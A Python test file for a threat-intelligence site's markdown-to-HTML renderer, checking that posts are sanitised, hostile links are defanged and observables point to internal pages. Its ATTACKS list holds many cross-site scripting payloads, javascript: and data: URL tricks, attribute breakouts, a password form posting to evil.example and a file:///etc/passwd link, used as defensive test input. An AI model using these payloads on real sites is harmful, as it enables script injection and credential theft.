"""A post shown: nothing of an author's runs, tracks or leads to a hostile place; observables lead to their pages."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from fusioncell.exchange.talk import to_html
from fusioncell.exchange.talk.anchor import grounds_of
from fusioncell.kernel.observable import Observable, ObservableType, canonical

ALLOWED = {
    "p": set(), "br": set(), "hr": set(), "em": set(), "strong": set(), "s": set(), "code": set(), "pre": set(),
    "blockquote": set(), "ul": set(), "ol": {"start"}, "li": set(), "a": {"href", "rel", "class"}, "span": {"class"},
    "h3": set(), "h4": set(), "h5": set(), "h6": set(), "table": set(), "thead": set(), "tbody": set(), "tr": set(),
    "th": set(), "td": set(),
}  # fmt: skip


class Strict(HTMLParser):
    """Notes every element, attribute and address that is not allowed, as a browser would read it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.hrefs: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "href":
                self.hrefs.append(value or "")
                if not re.match(r"(https?://|mailto:|/[^/])", value or ""):
                    self.wrong.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://hub.example/1)",
    "[x](//evil.example/x)",
    "[x](/sign-out)",
    "[x](https://vendor.example/\"onmouseover=alert(1)//)",
    "[x](https://vendor.example/'onmouseover='alert(1))",
    "[x](https://vendor.example/a \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://vendor.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    "[<img src=x onerror=alert(1)>](https://vendor.example/)",
    "![x](https://t.example/track.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://t.example/t.png)](https://vendor.example/)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[.]: javascript:alert(1)\n\nevil[.]example",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| x |",
    "@<script>alert(1)</script>",
    "@Ada\"><script>alert(1)</script>",
    "hxxps://evil[.]example/\"><script>alert(1)</script>",
    "https://evil.example/'onmouseover='alert(1)",
    "evil.example\"onmouseover=\"alert(1)",
    "\ue0000\ue001 \ue000999\ue001 \ue000-1\ue001",
    "\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "999999999. x",
    "> " * 500 + "x",
    "[" * 2000 + "](" * 2000,
    "*" * 5000 + "a" + "_" * 5000,
    "<" * 5000,
    "`" * 4999,
]


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_no_attack_gets_through(number: int) -> None:
    html = to_html(ATTACKS[number], names={"Ada": "/people/1", 'x"><script>': "/people/2"})
    strict = Strict(html)
    assert strict.wrong == [], html
    assert not any("evil.example" in href for href in strict.hrefs if not href.startswith("/observables/")), html


def test_the_check_bites() -> None:
    for html in ("<script>", "<a onclick=x>", '<a href="javascript:x">', '<a href="//x.ex">', "<img>", "<!-- x -->"):
        assert Strict(html).wrong, html


def test_observables_are_defanged_and_lead_to_their_pages() -> None:
    html = to_html("at hxxps://login[.]evil.example/a and 10.9.8.7, see `CVE-2026-1234`")
    assert Strict(html).hrefs == [
        "/observables/url/https%3A%2F%2Flogin.evil.example%2Fa", "/observables/ipv4-addr/10.9.8.7",
        "/observables/vulnerability/CVE-2026-1234",
    ]  # fmt: skip
    assert "hxxps[:]//login[.]evil[.]example/a" in html and "10[.]9[.]8[.]7" in html


def test_a_page_gives_each_observable_its_look() -> None:
    html = to_html("evil[.]example and 10.9.8.7", chip=lambda one: f'<b data-verdict="bad">{one.value}</b>')
    assert html == '<p><b data-verdict="bad">evil.example</b> and <b data-verdict="bad">10.9.8.7</b></p>\n'


FOLLOWED = "https://vendor.example/advisory"
LINKS: list[tuple[str, str, bool]] = [
    ("an advisory", f"[read]({FOLLOWED})", True),
    ("its own address as words", f"[{FOLLOWED}]({FOLLOWED})", True),
    ("its host as words", f"[vendor.example]({FOLLOWED})", True),
    ("an address by itself leads to its page", FOLLOWED, False),
    ("words that name another place", f"[https://bank.example/]({FOLLOWED})", False),
    ("words in code that name another place", f"[`bank.example`]({FOLLOWED})", False),
    ("the text defangs its host", f"[read]({FOLLOWED}), the actor's vendor[.]example", False),
    ("the text defangs the address", f"[read]({FOLLOWED}) hxxps://vendor[.]example/advisory", False),
    ("a defanged address is no address", "[read](hxxps://vendor.example/advisory)", False),
]


@pytest.mark.parametrize("number", range(len(LINKS)))
def test_which_links_can_be_followed(number: int) -> None:
    _, text, followed = LINKS[number]
    html = to_html(text)
    assert any("vendor.example" in h for h in Strict(html).hrefs if not h.startswith("/")) is followed, html
    if followed:
        assert 'rel="noopener noreferrer nofollow ugc"' in html


@pytest.mark.parametrize("value", ["https://a.vendor.example/x", "a.vendor.example", "vendor.example"])
@pytest.mark.parametrize("verdict", ["malicious", "suspicious", "malicious, not active lately", "unclear"])
def test_a_hostile_address_is_never_to_be_followed(value: str, verdict: str) -> None:
    kind = ObservableType.URL if "/" in value else ObservableType.DOMAIN
    text, known = "[read](https://a.vendor.example/x)", canonical(kind, value)
    assert Strict(to_html(text, verdicts={known: "mentioned"})).hrefs == ["https://a.vendor.example/x"]
    html = to_html(text, verdicts={known: verdict})
    assert [href for href in Strict(html).hrefs if not href.startswith("/observables/")] == []
    assert "read" in html and "hxxps[:]//a[.]vendor[.]example/x" in html


def test_mentions_are_those_that_are_known() -> None:
    html = to_html("@Ada Okafor and @Ada, not @Bo nor x@Ada; `@Ada`", names={"Ada": "/people/1", "Ada Okafor": ""})
    assert html.count('class="mention"') == 2
    assert '<span class="mention">@Ada Okafor</span>' in html and '<a class="mention" href="/people/1">@Ada</a>' in html


def test_headings_stand_below_those_of_the_page() -> None:
    assert to_html("# a\n\n###### b") == "<h3>a</h3>\n<h6>b</h6>\n"


def test_what_an_observable_stands_on() -> None:
    url, mail = "https://a.b.example/x", "x@c.example"
    found = grounds_of([canonical(ObservableType.URL, url), canonical(ObservableType.EMAIL, mail)])
    assert [one.value for one in found] == [url, "a.b.example", "b.example", mail, "c.example"]
    assert grounds_of([Observable(ObservableType.OTHER, "x")]) == [Observable(ObservableType.OTHER, "x")]
